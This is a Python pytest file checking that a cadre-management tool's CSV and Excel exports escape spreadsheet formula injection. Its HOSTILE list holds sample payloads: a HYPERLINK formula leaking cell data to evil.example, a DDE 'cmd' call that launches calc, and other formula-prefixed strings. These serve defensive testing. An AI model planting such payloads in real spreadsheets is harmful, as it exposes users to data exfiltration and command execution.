"""Exports neutralize formulas (OWASP CSV injection) in every xlsx and CSV banzi writes.

Hostile unit and cadre names are planted in a tiny demo; the Excel briefing, every
``--format csv`` output, the download helpers and the contract export are read back.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import cli
from data.access import SYSTEM_VIEWER
from data.catalog import available_periods
from data.cells import is_formula_like, safe_cell, safe_frame
from data.demo import build_demo
from data.export import export_store
from data.store import Store
from models.pipeline import tier_all_periods
from reports.brief import build_briefings
from reports.tables import csv_bytes, excel_bytes

ROOT = Path(__file__).resolve().parent.parent
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A2,"市人社局")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(1,2)",
    "-2+3",
]


def _plant(con, table: str, key: str, column: str) -> None:
    con.execute(
        f"UPDATE {table} t SET {column} = n.v FROM (SELECT {key} AS k, "
        f"list_extract($names, CAST((row_number() OVER (ORDER BY {key}) - 1) % 5 + 1 AS INTEGER))"
        f" AS v FROM {table}) n WHERE t.{key} = n.k",
        {"names": HOSTILE},
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> tuple[Store, str]:
    """A tiny demo whose every unit and cadre carries one of the hostile names, tiered."""
    folder = tmp_path_factory.mktemp("hostile")
    store = Store(folder / "hostile.duckdb")
    build_demo(store, scale="tiny", seed=11)
    with store.write() as con:
        _plant(con, "units", "unit_code", "unit_name")
        _plant(con, "cadres", "cadre_code", "name")
    tier_all_periods(store, artifacts_dir=folder / "artifacts")
    with store.read() as con:
        period = available_periods(con, SYSTEM_VIEWER)[0]
    return store, period


def _assert_no_live_text(values: list[object], where: str) -> None:
    for value in values:
        if isinstance(value, str):
            assert not is_formula_like(value), f"{where}: live formula text {value!r}"


def test_safe_cell_rules() -> None:
    for text in [*HOSTILE, "\tx", "\rx", "=1", "-", "@"]:
        assert safe_cell(text) == "'" + text
    for value in ["市人社局", "'=already", "", "3", "-3", "+1.5", "-12%", "1e-3", 3, -2.5, None]:
        assert safe_cell(value) == value
    frame = pd.DataFrame({"名称": HOSTILE, "数": range(5), "浮": [-1.5] * 5})
    safe = safe_frame(frame)
    assert safe["名称"].tolist() == ["'" + h for h in HOSTILE]
    assert safe["数"].dtype == frame["数"].dtype and safe["浮"].tolist() == [-1.5] * 5
    assert frame["名称"].tolist() == HOSTILE  # the input is not changed


def test_excel_briefing_has_no_formula(hostile: tuple[Store, str]) -> None:
    store, period = hostile
    data = build_briefings(store, SYSTEM_VIEWER, period, ["xlsx"])["xlsx"]
    wb = openpyxl.load_workbook(io.BytesIO(data))
    assert {"分层名单", "建议与决定"} <= set(wb.sheetnames)
    numbers = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate}: {cell.value!r}"
                numbers += cell.data_type == "n" and isinstance(cell.value, int | float)
            _assert_no_live_text([c.value for c in row], ws.title)
    assert numbers > 0  # real numbers stay numbers
    for sheet in ("分层名单", "建议与决定"):
        texts = {c.value for row in wb[sheet].iter_rows() for c in row}
        found = {h for h in HOSTILE if "'" + h in texts}
        assert found, f"{sheet}: no planted name found, escaped"


@pytest.mark.parametrize("command", ["tiers", "integrity", "suggest"])
def test_every_csv_output_is_escaped(
    hostile: tuple[Store, str], command: str, tmp_path: Path
) -> None:
    store, period = hostile
    out = tmp_path / f"{command}.csv"
    argv = ["--db", str(store.path), command, "--period", period, "--format", "csv",
            "--output", str(out)]  # fmt: skip
    if command != "tiers":
        argv.append("--all")
    assert cli.main(argv) == 0
    with store.read() as con:
        last = con.execute(
            "SELECT username, action, target FROM audit_log ORDER BY audit_id DESC LIMIT 1"
        ).fetchone()
    assert last == (f"cli:{cli.cli_login()}", "export", f"{command} {period}")  # audited
    text = out.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) > 1
    cells = [c for row in rows for c in row]
    _assert_no_live_text(cells, command)
    assert any(c in {"'" + h for h in HOSTILE} for c in cells), f"{command}: no planted name"
    numeric = [c for row in rows[1:] for c in row if re.fullmatch(r"-?\d+(\.\d+)?", c)]
    assert numeric or command == "suggest"  # numbers are written as plain numbers


def test_csv_to_stdout_is_escaped(
    hostile: tuple[Store, str], capsys: pytest.CaptureFixture[str]
) -> None:
    store, period = hostile
    assert cli.main(["--db", str(store.path), "tiers", "--period", period, "--format", "csv"]) == 0
    cells = [c for row in csv.reader(io.StringIO(capsys.readouterr().out)) for c in row]
    _assert_no_live_text(cells, "stdout")


def test_download_helpers_are_escaped() -> None:
    frame = pd.DataFrame({"姓名": HOSTILE, "得分": [1.5, -2.0, 3, 4, -5]})
    cells = [
        c for row in csv.reader(io.StringIO(csv_bytes(frame).decode("utf-8-sig"))) for c in row
    ]
    _assert_no_live_text(cells, "csv_bytes")
    wb = openpyxl.load_workbook(io.BytesIO(excel_bytes({"表": frame})))
    for row in wb["表"].iter_rows(min_row=2):
        assert row[0].data_type == "s" and row[0].value.startswith("'")
        assert row[1].data_type == "n"


@pytest.fixture
def small_hostile(tmp_store: Store) -> Store:
    """Two units and three cadres (the import samples) renamed to hostile names."""
    from data.importer import import_files
    from tests.import_samples import sample

    assert import_files(tmp_store, [sample("units"), sample("cadres")]).ok
    with tmp_store.write() as con:
        _plant(con, "units", "unit_code", "unit_name")
        _plant(con, "cadres", "cadre_code", "name")
    return tmp_store


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_contract_export_is_escaped(small_hostile: Store, tmp_path: Path, fmt: str) -> None:
    written = export_store(small_hostile, tmp_path / fmt, fmt=fmt)
    assert written
    for path in written:
        if fmt == "csv":
            cells = [c for row in csv.reader(path.open(encoding="utf-8-sig")) for c in row]
        else:
            ws = openpyxl.load_workbook(path).active
            assert all(c.data_type != "f" for row in ws.iter_rows() for c in row), path.name
            cells = [c.value for row in ws.iter_rows() for c in row]
        _assert_no_live_text(cells, path.name)
        assert any(c in {"'" + h for h in HOSTILE} for c in cells), path.name


# Writers of CSV / xlsx outside data/cells.py must go through the helper. Readers, templates
# (fixed headers) and the benchmark's synthetic files are the only exceptions.
EXEMPT = {"data/cells.py", "data/readers.py", "data/parsers.py", "data/importer.py",
          "data/templates.py"}  # fmt: skip
WRITER = re.compile(r"\.(to_csv|to_excel)\(|\bws\.append\(|\.cell\(.*value=")


def test_every_writer_uses_the_helper() -> None:
    offenders = []
    files = [ROOT / "cli.py", *(p for d in ("data", "reports", "ui", "pages")
                                for p in (ROOT / d).rglob("*.py"))]  # fmt: skip
    for path in files:
        rel = str(path.relative_to(ROOT))
        if rel in EXEMPT:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if WRITER.search(line) and not re.search(
                r"safe_(cell|frame)\(|csv_text\(|_cell_value\(", line
            ):
                offenders.append(f"{rel}:{number}: {line.strip()}")
    assert not offenders, "\n".join(offenders)
